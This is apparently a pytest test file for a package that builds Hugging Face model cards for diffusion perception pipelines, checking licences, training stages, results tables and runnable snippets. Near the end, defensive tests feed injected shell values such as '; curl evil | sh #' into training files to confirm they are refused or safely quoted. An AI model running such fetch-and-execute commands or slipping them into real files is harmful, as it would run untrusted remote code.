"""Cards of pipelines and adapters: facts of their folder, and results of this checkpoint."""

import json
import shlex
import shutil
from collections.abc import Callable
from importlib.metadata import version
from pathlib import Path
from typing import Any

import pytest
from diffusers import DiffusionPipeline
from huggingface_hub import ModelCard
from PIL import Image

from d2i1_data.card import Links, model_card
from d2i1_data.checkpoints.files import fingerprint
from d2i1_data.checkpoints.pipelines import open_pipeline
from d2i1_data.diff2in1 import Base, Diff2in1Pipeline
from d2i1_data.diff2in1.saving import HASHES, TRAINING
from d2i1_data.errors import InputError
from d2i1_data.sources.rooms import CLASSES, Rooms
from d2i1_train.acts import ACTS
from hub_cards import REPOSITORY
from tests.hub import Hub
from tests.made import run
from tests.pages import HOSTILE, Page, snippets

VALIDATE = ("--validation_source", "rooms:val", "--num_validation_samples", 2)
ON_TWO_ROOMS = ("--source", "rooms:train", "--max_train_samples", 2, "--resolution", 32)
BRIEF = ("--max_train_steps", 2, "--real_batch_size", 2, "--report_to", "none")


@pytest.fixture(scope="module")
def improved(
    pipeline: Path, create: Callable[..., Path], tmp_path_factory: pytest.TempPathFactory
) -> Path:
    """A pipeline that self-improved on created rooms, with a validation."""
    folder = tmp_path_factory.mktemp("card")
    created = create(folder / "created")
    command = ("self-improve", "--pipeline", pipeline, *ON_TWO_ROOMS, *BRIEF, *VALIDATE)
    run(*command, "--created", created, "--seed", 7, "--output_dir", folder / "improved")
    return folder / "improved" / "pipeline"


@pytest.fixture(scope="module")
def tuned(tiny_base: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The folder of a warm-up that trained a LoRA on a base with a licence."""
    folder = tmp_path_factory.mktemp("tuned")
    shutil.copytree(tiny_base, folder / "base")
    (folder / "base/README.md").write_text("---\nlicense: creativeml-openrail-m\n---\n")
    command = ("warm-up", "--base", folder / "base", *ON_TWO_ROOMS, *BRIEF, "--host", "light")
    more = ("--width", 16, "--tasks", "normals,depth", "--train_unet", "lora", "--rank", 2)
    run(*command, *more, "--output_dir", folder / "run")
    return folder / "run"


@pytest.fixture(scope="module")
def results(improved: Path) -> Path:
    """The file of `d2i1 evaluate` for this pipeline."""
    file = improved.parent / "results.json"
    flags = ("--source", "rooms:test", "--max_samples", 2, "--flip", "true")
    run("evaluate", "--pipeline", improved, *flags, "--output_file", file)
    return file


def execute(code: str) -> dict[str, Any]:
    """Run a snippet where nothing else is defined; what it defines."""
    found: dict[str, Any] = {}
    exec(code, found)
    return found


def edited(folder: Path, to: Path, name: str, **fields: Any) -> Path:
    """A copy of a folder with other fields in one of its JSON files, as if it was saved so."""
    shutil.copytree(folder, to, ignore=shutil.ignore_patterns(HASHES))
    content = json.loads((to / name).read_text())
    (to / name).write_text(json.dumps({**content, **fields}))
    return to


@pytest.mark.parametrize("way", ["folder", "hub"])
def test_a_loaded_pipeline_keeps_its_facts(hub: Hub, tuned: Path, tmp_path: Path, way: str) -> None:
    """Licence, results and training: saved again, and pushed, from a folder and from the Hub."""
    name = str(tuned / "pipeline")
    if way == "hub":
        name = "alice/first"
        run("publish", "--pipeline", tuned / "pipeline", "--repo_id", name)
    pipe = Diff2in1Pipeline.from_pretrained(name)
    pipe.save_pretrained(tmp_path / "again")
    before = (tuned / "pipeline" / TRAINING).read_bytes()
    assert (tmp_path / "again" / TRAINING).read_bytes() == before
    pipe.push_to_hub("alice/again")
    files = hub.files("alice/again")
    assert files[TRAINING] == before
    card = ModelCard(files["README.md"].decode())
    assert card.data.to_dict()["license"] == "creativeml-openrail-m"
    assert "## Training" in card.text


def test_a_base_of_our_own_has_the_name_of_its_run(tiny_base: Path, tmp_path: Path) -> None:
    shutil.copytree(tiny_base, tmp_path / "base-streets" / "pipeline")
    assert Base(str(tmp_path / "base-streets" / "pipeline")).name == "base-streets"
    assert (Base(str(tiny_base)).name, Base("user/base").name) == ("base", "user/base")


def test_the_card_says_what_to_install_and_where_the_code_is(improved: Path, tuned: Path) -> None:
    """An older version of transformers would fill the text encoder with random numbers."""
    libraries = "'torch>=2.6' 'diffusers>=0.40' 'transformers>=5.6' 'accelerate>=1.10'"
    for folder, more in ((improved, "'pillow>=11'"), (tuned / "adapter", "'peft>=0.21'")):
        text = (folder / "README.md").read_text()
        assert f"\npip install 'diff2in1>={version('diff2in1')}'\n" in text
        assert f"\npip install {libraries} {more}\n" in text
        assert f"[code]({REPOSITORY})" in text


def test_a_repository_gives_title_and_thumbnail(improved: Path) -> None:
    card = ModelCard(model_card(improved, Links("alice/my-model")))
    assert "\n# my-model\n" in card.text
    place = "https://huggingface.co/alice/my-model/resolve/main/preview.png"
    assert card.data.to_dict()["thumbnail"] == place
    assert "thumbnail" not in ModelCard(model_card(improved)).data.to_dict()


def test_a_run_without_a_validation_shows_training_samples(tuned: Path, tmp_path: Path) -> None:
    """Its pipeline and its adapter; who must not show them deletes the picture."""
    for name in ("pipeline", "adapter"):
        with Image.open(tuned / name / "preview.png") as picture:
            assert picture.size == (3 * 194 - 2, 6 * 194 - 2)  # 2 tasks, 2 samples
        assert "![Training samples and their predictions](preview.png)" in model_card(tuned / name)
    shutil.copytree(tuned / "pipeline", tmp_path / "copy")
    (tmp_path / "copy/preview.png").unlink()
    assert "preview.png" not in model_card(tmp_path / "copy")


def test_from_pretrained_of_an_adapter_says_what_to_call(tuned: Path) -> None:
    for kind in (Diff2in1Pipeline, DiffusionPipeline):
        with pytest.raises(
            ValueError, match=r"an adapter .* Diff2in1Pipeline.from_adapter\("
        ) as one:
            kind.from_pretrained(tuned / "adapter")
        assert "\n" not in str(one.value)


# --- training.json ---


def test_training_lists_all_stages(improved: Path) -> None:
    training = json.loads((improved / TRAINING).read_text())
    assert [stage["stage"] for stage in training["stages"]] == ["warm-up", "self-improve"]
    first, last = training["stages"]
    assert (first["steps"], first["seen"]) == (1, {"real": 2})
    assert (last["steps"], last["seen"]) == (2, {"real": 4, "created": 4})
    source = {"name": "rooms", "split": "train", "licence": "cc0-1.0", "rows": 2}
    assert first["source"] == last["source"] == source
    assert (last["created"]["name"], last["created"]["rows"]) == ("created", 7)
    assert "created" not in first and "validation" not in first
    assert (last["settings"]["alpha"], last["settings"]["seed"]) == ("auto", 7)
    found = last["validation"]
    assert (found["source"], found["split"], found["samples"]) == ("rooms", "val", 2)
    assert {*found["tasks"]} == {"normals", "depth", "semseg"}
    assert "base_licence" not in training  # the tiny base has no card


def test_validation_describes_the_published_weights(improved: Path) -> None:
    """`d2i1 evaluate` on the same rooms, at the same size, gives the same metrics."""
    from d2i1_data.inspection.evaluation.measure import common_tasks, compute_metrics, measure
    from d2i1_data.sources import open_rows

    pipe, rows = open_pipeline(str(improved)), open_rows("rooms:val", "32", 2)
    tasks = common_tasks(pipe, rows.source)
    sums = measure(pipe, rows.samples(), tasks)
    scores = compute_metrics(tasks, {name: one.sum(0) for name, one in sums.items()})
    stage = json.loads((improved / TRAINING).read_text())["stages"][-1]
    for name, stored in stage["validation"]["tasks"].items():
        assert stored == {key: pytest.approx(scores[name][key], rel=1e-4) for key in stored}


@pytest.mark.parametrize("act", ["warm-up", "self-improve"])
def test_the_commands_train_the_same_again(improved: Path, act: str) -> None:
    text = (improved / "README.md").read_text().replace(" \\\n", " ")
    (typed,) = [line for line in text.splitlines() if line.startswith(f"d2i1 {act} ")]
    settings = ACTS[act].read(shlex.split(typed)[2:])
    stages = json.loads((improved / TRAINING).read_text())["stages"]
    (stored,) = [stage["settings"] for stage in stages if stage["stage"] == act]
    for key, value in stored.items():
        assert getattr(settings, key) == value, key


def test_training_json_does_not_change_the_fingerprint(improved: Path, tmp_path: Path) -> None:
    before = fingerprint(improved)
    shutil.copytree(improved, tmp_path / "moved")
    (tmp_path / "moved" / TRAINING).unlink()
    assert fingerprint(tmp_path / "moved") == before
    (tmp_path / "moved/unet" / TRAINING).write_text("{}")
    assert fingerprint(tmp_path / "moved") != before
    assert "## Training" not in model_card(tmp_path / "moved")


def test_no_path_of_this_machine_is_written(improved: Path, tuned: Path, results: Path) -> None:
    texts = [model_card(improved, results=[results])]
    for folder in (improved, tuned / "pipeline", tuned / "adapter"):
        texts += [file.read_text() for file in folder.rglob("*.json")]
        texts += [(folder / "README.md").read_text()]
    for text in texts:
        assert "/tmp" not in text and "pytest" not in text


# --- the card ---


def test_the_card_of_a_pipeline(improved: Path) -> None:
    card = ModelCard.load(improved / "README.md")
    data = card.data.to_dict()
    assert data["library_name"] == "diffusers" and data["pipeline_tag"] == "image-to-image"
    assert {"diff2in1", "depth", "surface-normals", "semantic-segmentation"} <= {*data["tags"]}
    absent = {"license", "base_model", "base_model_relation", "datasets", "model-index"}
    assert not absent & {*data} and "lora" not in data["tags"]
    page = Page(str(card))
    assert all(f"{n} {name}" in page.words for n, name in enumerate(CLASSES))
    assert 'Diff2in1Pipeline.from_pretrained("pipeline")' in page.words
    assert "custom_pipeline=name, trust_remote_code=True" in page.words
    assert "while training: rooms val, 2 samples" in page.words
    assert "2 real" in page.words and "4 real, 4 created" in page.words
    assert "scales images to a longer side of 32 pixels" in page.words  # `--resolution 32`
    words = page.words.replace("pipe(None, ", "")
    assert "More Information Needed" not in words and "None" not in words
    images = {dict(attributes)["src"] for tag, attributes in page.elements if tag == "img"}
    assert images == {"preview.png"} and (improved / "preview.png").is_file()


def test_the_card_of_an_adapter(tuned: Path) -> None:
    adapter, whole = (
        ModelCard.load(tuned / name / "README.md") for name in ("adapter", "pipeline")
    )
    assert "lora" in adapter.data.tags and "lora" not in whole.data.tags
    assert adapter.data.license == whole.data.license == "creativeml-openrail-m"
    for card, name in ((adapter, "adapter"), (whole, "pipeline")):
        version = json.loads((tuned / name / "model_index.json").read_text())["format_version"]
        assert f"Format version of this folder: {version}." in card.text
    assert "creativeml-openrail-m, inherited from the base" in adapter.text
    assert 'from_adapter("adapter", base="path/to/base")' in adapter.text
    assert 'load_lora_weights("adapter")' in adapter.text
    assert "the LoRA switched off" in adapter.text and "`base_unet`" in whole.text
    assert "--train_unet lora" in adapter.text and "--rank 2" in adapter.text


def test_the_code_of_the_card_runs(
    improved: Path, tuned: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each as it stands there, with and without this package; see also tests/test_strangers.py."""
    image = Rooms("test")[0].image
    own, without_us = snippets((improved / "README.md").read_text())
    monkeypatch.chdir(improved.parent)
    first = execute(own)
    assert first["created"].images[0].size == Image.open("created.png").size == (32, 32)
    expected = first["pipe"].predict(image).predictions
    again = execute(without_us)["pipe"].predict(image).predictions
    assert all((expected[name][0] == again[name][0]).all() for name in expected)
    snippet, plain = snippets((tuned / "adapter/README.md").read_text())
    monkeypatch.chdir(tuned)
    base = str(tuned.parent / "base")
    assert {*execute(snippet.replace("path/to/base", base))["labels"].predictions} == {
        *("normals", "depth")
    }
    assert execute(plain.replace("path/to/base", base))["sd"].get_active_adapters()


def test_a_base_on_the_hub_is_named_with_its_relation(
    tuned: Path, improved: Path, tmp_path: Path
) -> None:
    base = {"base": "someone/sd", "base_revision": "abc"}
    for name, folder, relation in (
        ("adapter", tuned / "adapter", "adapter"),
        ("pipeline", tuned / "pipeline", "finetune"),
        ("frozen", improved, None),
    ):
        copy = edited(folder, tmp_path / name, "model_index.json", **base)
        card = ModelCard(model_card(copy))
        assert card.data.base_model == "someone/sd"
        assert card.data.to_dict().get("base_model_relation") == relation
        assert "[someone/sd](https://huggingface.co/someone/sd)" in card.text
        assert "Rombach" in card.text
    assert 'from_adapter("adapter")' in model_card(tmp_path / "adapter")
    assert "Rombach" not in model_card(improved)


@pytest.mark.parametrize(
    ("host", "author"), [("Bae", "Budvytis"), ("IDisc", "Piccinelli"), ("Vpd", "Zuyan")]
)
def test_hosts_are_cited(improved: Path, tmp_path: Path, host: str, author: str) -> None:
    own = {"perception": ["diff2in1", host]}
    text = model_card(edited(improved, tmp_path / "copy", "model_index.json", **own))
    assert author in text and "zheng2025diff2in1" in text
    assert author not in model_card(improved)


@pytest.mark.parametrize(
    ("tasks", "tag"), [(["depth"], "depth-estimation"), (["normals"], "image-to-image")]
)
def test_a_single_task_of_the_hub_is_the_tag(
    improved: Path, tmp_path: Path, tasks: list[str], tag: str
) -> None:
    config = json.loads((improved / "perception/config.json").read_text())["tasks"]
    own = {"tasks": {name: config[name] for name in tasks}}
    copy = edited(improved, tmp_path / "copy", "perception/config.json", **own)
    assert ModelCard(model_card(copy)).data.pipeline_tag == tag


def test_links_change_only_names(improved: Path) -> None:
    links = Links("a/model", adapter="a/lora", dataset="a/data", space="a/space")
    alone, linked = (model_card(improved, one).splitlines() for one in (Links(), links))
    changed = {*linked} - {*alone}
    assert "# model" in changed
    assert all("a/" in line or line in ("datasets:", "# model") for line in changed), changed
    assert ModelCard("\n".join(linked)).data.datasets == ["a/data"]
    assert 'from_pretrained("a/model")' in "\n".join(linked)
    assert "[a/data](https://huggingface.co/datasets/a/data)" in "\n".join(linked)


def test_a_base_is_told_from_an_embedded_one_of_the_same_name(
    tuned: Path, pipeline: Path, tmp_path: Path
) -> None:
    """A base in `~/x/rooms` is called rooms, but it is not the embedded one."""
    light = ("--host", "light", "--width", 16, "--tasks", "normals", "--output_dir", tmp_path)
    lora = ("--train_unet", "lora", "--rank", 2)
    run("warm-up", "--base", "rooms", *ON_TWO_ROOMS, *BRIEF, *light, *lora)
    assert 'from_adapter("adapter")' in (tmp_path / "adapter/README.md").read_text()
    named = edited(tuned / "adapter", tmp_path / "named", "model_index.json", base="rooms")
    assert 'from_adapter("named", base="path/to/base")' in model_card(named)
    named = edited(pipeline, tmp_path / "rooms", "model_index.json", base="rooms")
    more = ("--created", "none", "--fresh_optimizer", "true", "--output_dir", tmp_path / "improved")
    run("self-improve", "--pipeline", named, *ON_TWO_ROOMS, *BRIEF, *more)
    training = json.loads((tmp_path / "improved/pipeline" / TRAINING).read_text())
    assert not {"base_licence", "base_embedded"} & {*training}


# --- results ---


def test_results_are_those_that_were_measured(improved: Path, results: Path) -> None:
    card = ModelCard(model_card(improved, Links("a/model"), [results]))
    measured = json.loads(results.read_text())
    found = {one.metric_name: one for one in card.data.eval_results or []}
    assert found["depth abs_rel"].task_type == "depth-estimation"
    assert found["semseg miou"].task_type == "image-segmentation"
    assert found["normals mean"].task_type == "other"
    for name, one in found.items():
        task, metric = name.split()
        assert one.metric_value == measured["tasks"][task][metric]
        assert (one.dataset_name, one.dataset_split) == ("rooms", "test")
        assert one.metric_args == {"samples": 2, "flip": True}
        assert f"{one.metric_value:.4g}" in card.text
    assert len(found) == 10
    assert "rooms test, 2 samples, flip True" in card.text


def test_the_classes_of_the_results_are_shown(
    improved: Path, results: Path, tmp_path: Path
) -> None:
    content = json.loads(results.read_text())
    own = content["classes"]["semseg"]
    assert own["names"] == list(CLASSES)
    pixels = sum(map(sum, own["confusion"]))
    assert pixels == 2 * 64 * 64
    names, iou, confusion = ["sky", "road"], [0.25, None], [[1, 3], [0, 0]]
    content["classes"] = {"semseg": {"names": names, "iou": iou, "confusion": confusion}}
    file = tmp_path / "results.json"
    file.write_text(json.dumps(content))
    text = model_card(improved, results=[file])
    assert "### Classes: rooms test, 2 samples, flip True" in text
    assert "| sky | 100.0% | 0.25 | road 75%, sky 25% |" in text
    assert "| road | 0.0% |  |  |" in text
    content["classes"]["semseg"]["iou"] = [0.25]
    file.write_text(json.dumps(content))
    with pytest.raises(InputError, match="no results of ours"):
        model_card(improved, results=[file])


def test_results_of_other_weights_are_refused(
    improved: Path, pipeline: Path, results: Path, tmp_path: Path
) -> None:
    with pytest.raises(InputError, match="of another checkpoint than"):
        model_card(pipeline, results=[results])
    content = json.loads(results.read_text())
    file = tmp_path / "results.json"
    file.write_text(json.dumps({k: v for k, v in content.items() if k != "fingerprint"}))
    with pytest.raises(InputError, match="or without a fingerprint"):
        model_card(improved, results=[file])
    content["settings"]["theta"] = "exploitation"
    file.write_text(json.dumps(content))
    with pytest.raises(InputError, match="of theta_E"):
        model_card(improved, results=[file])
    for wrong in ("", "[]", "{}", '{"source": "a", "samples": "b", "tasks": {}}'):
        file.write_text(wrong)
        with pytest.raises(InputError, match="no results of ours"):
            model_card(improved, results=[file])


def test_a_comparison_is_shown_whole(improved: Path, results: Path, tmp_path: Path) -> None:
    content = json.loads(results.read_text())
    content["settings"] = {}
    own = content["tasks"]
    worse = {name: {k: v * 2 for k, v in one.items()} for name, one in own.items()}
    file = tmp_path / "compared.json"
    file.write_text(
        json.dumps({**content, "table": {"warm-up": worse, "self-improve theta_C": own}})
    )
    card = ModelCard(model_card(improved, results=[file]))
    assert "| rooms test, 2 samples | warm-up | self-improve theta&#95;C |" in card.text
    one = own["depth"]["abs_rel"]
    assert f"| {2 * one:.4g} | {one:.4g} |" in card.text
    values = {one.metric_name: one.metric_value for one in card.data.eval_results or []}
    assert values["depth abs_rel"] == one


def test_unknown_metrics_are_left_out(improved: Path, results: Path, tmp_path: Path) -> None:
    content = json.loads(results.read_text())
    content["tasks"]["depth"] = dict.fromkeys(content["tasks"]["depth"], float("nan"))
    file = tmp_path / "results.json"
    file.write_text(json.dumps(content))
    card = ModelCard(model_card(improved, results=[file]))
    names = [one.metric_name for one in card.data.eval_results or []]
    assert len(names) == 7 and not any("depth" in str(name) for name in names)
    assert "nan" not in card.text


# --- a training.json of somebody else ---


@pytest.mark.parametrize(
    "given",
    [
        {"command": ["; curl evil | sh #", "x"]},
        {"command": ["--source", "a", "--b\n--c", "d"]},
        {"command": ["--source"]},
        {"command": ["--seed", 1]},
        {"command": "--seed 1"},
        {"versions": []},
        {"seen": {"real": "many"}},
        {"source": {"name": "a"}},
        {"created": "a"},
        {"validation": {"source": "a", "samples": 1, "tasks": {"depth": 1}}},
        {"steps": None},
    ],
)
def test_another_training_json_is_refused(
    improved: Path, tmp_path: Path, given: dict[str, Any]
) -> None:
    stages = json.loads((improved / TRAINING).read_text())["stages"]
    stages[-1] |= given
    folder = edited(improved, tmp_path / "copy", TRAINING, stages=stages)
    with pytest.raises(InputError, match=rf"not a training file of ours .*{next(iter(given))}"):
        model_card(folder)


@pytest.mark.parametrize("given", [{"stages": ["a"]}, {"stages": 1}, {"base_licence": ["mit"]}])
def test_a_training_json_without_stages_is_refused(
    improved: Path, tmp_path: Path, given: dict[str, Any]
) -> None:
    with pytest.raises(InputError, match="not a training file of ours"):
        model_card(edited(improved, tmp_path / "copy", TRAINING, **given))


def test_a_command_is_words_for_a_shell(improved: Path, tmp_path: Path) -> None:
    stages = json.loads((improved / TRAINING).read_text())["stages"]
    stages[-1] |= {"stage": "a; curl evil", "command": ["--source", "b\n; curl evil"]}
    text = model_card(edited(improved, tmp_path / "copy", TRAINING, stages=stages))
    typed = text.split("```sh\n")[4].split("\n```")[0]
    act, source = "a; curl evil", "b\n; curl evil"
    assert shlex.split(typed) == ["d2i1", act, "--source", source, "--output_dir", act]


# --- texts stay texts ---


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_breaks_out_of_the_card(
    improved: Path, results: Path, tmp_path: Path, text: str
) -> None:
    pages = []
    for name, given in (("tame", "word"), ("wild", text)):
        folder = edited(improved, tmp_path / name, "model_index.json", base=given)
        config = json.loads((folder / "perception/config.json").read_text())
        config["tasks"]["semseg"] |= {"names": [given] * 11}
        (folder / "perception/config.json").write_text(json.dumps(config))
        training = json.loads((folder / TRAINING).read_text())
        stage = training["stages"][-1]
        stage["source"] |= {"name": given, "split": given, "licence": given}
        stage["created"] |= {"name": given}
        stage["validation"] |= {"source": given}
        stage |= {"stage": given, "command": ["--source", given, "--prompt", given]}
        stage["versions"] |= {"torch": given}
        (folder / TRAINING).write_text(json.dumps({**training, "base_licence": given}))
        content = json.loads(results.read_text())
        content |= {"source": given, "split": given, "fingerprint": fingerprint(folder)}
        content["settings"] |= {"crop": given}
        content["table"] = {given: content["tasks"]}
        (folder / "results.json").unlink(missing_ok=True)
        file = tmp_path / f"{name}.json"
        file.write_text(json.dumps(content))
        card = model_card(folder, Links(given, given, given, given, given), [file])
        pages.append(Page(card))
        data = ModelCard(card).data
        assert data.license == "other" and data.to_dict().get("base_model") is None
        assert data.eval_results and data.eval_results[0].dataset_name == given
        assert data.eval_results[0].dataset_split == given
    assert pages[0].elements == pages[1].elements
